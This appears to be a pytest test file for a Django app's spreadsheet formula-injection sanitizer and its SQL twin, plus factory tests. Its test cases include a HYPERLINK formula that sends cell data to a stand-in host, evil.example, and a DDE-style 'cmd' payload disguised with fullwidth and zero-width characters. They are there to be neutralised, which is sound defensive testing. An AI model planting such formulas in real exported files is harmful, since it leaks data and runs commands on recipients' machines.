import pytest

from relabel_app.csv_safety import spreadsheet_safe, spreadsheet_safe_sql
from tests.factories import ClipFactory, UserFactory


@pytest.mark.django_db
def test_user_factory_roles_and_password():
    cora = UserFactory(username="cora", role="curator")
    nora = UserFactory(role="")
    rita = UserFactory()
    assert list(cora.groups.values_list("name", flat=True)) == ["curator"]
    assert nora.groups.count() == 0
    assert list(rita.groups.values_list("name", flat=True)) == ["reviewer"]
    assert rita.check_password("pw") and not rita.check_password("other")


@pytest.mark.django_db
def test_clip_factory_makes_clips_in_one_dataset():
    a = ClipFactory()
    b = ClipFactory(dataset=a.dataset)
    assert a.dataset_id == b.dataset_id and a.ytid != b.ytid and a.end_s == 10.0


@pytest.mark.parametrize(
    "text, safe",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"), ("plain note", "plain note"), ("/m/09x0r", "/m/09x0r"), ("", ""),
        # Issue 16: fullwidth forms, and any of them after zero-width characters.
        ("\uff1dcmd|' /C calc'!A0", "'\uff1dcmd|' /C calc'!A0"), ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"), ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\u200b=1+1", "'\u200b=1+1"), ("\ufeff\u200d\uff1d1", "'\ufeff\u200d\uff1d1"),
        ("\u2060@x", "'\u2060@x"), ("\u200bplain", "\u200bplain"), ("a\uff1db", "a\uff1db"),
    ],
)
def test_spreadsheet_safe(text, safe):
    assert spreadsheet_safe(text) == safe


@pytest.mark.django_db
@pytest.mark.parametrize("text", ["=1+1", "+x", "-y", "@z", "\tq", "\rr", "ok", "", "a=b",
                                  "\uff1d1", "\uff0b1", "\uff0d1", "\uff20z", "\u200b=1",
                                  "\ufeff\u200c\uff1d1", "\u200bok", "a\uff0db", "'quoted",
                                  "\\=x", "]=x", "^=x"])
def test_spreadsheet_safe_sql_matches_python(text):
    from django.db import connection

    with connection.cursor() as cur:
        cur.execute(f"SELECT {spreadsheet_safe_sql('t.v')} FROM (SELECT %s::text AS v) t", [text])
        assert cur.fetchone()[0] == spreadsheet_safe(text)
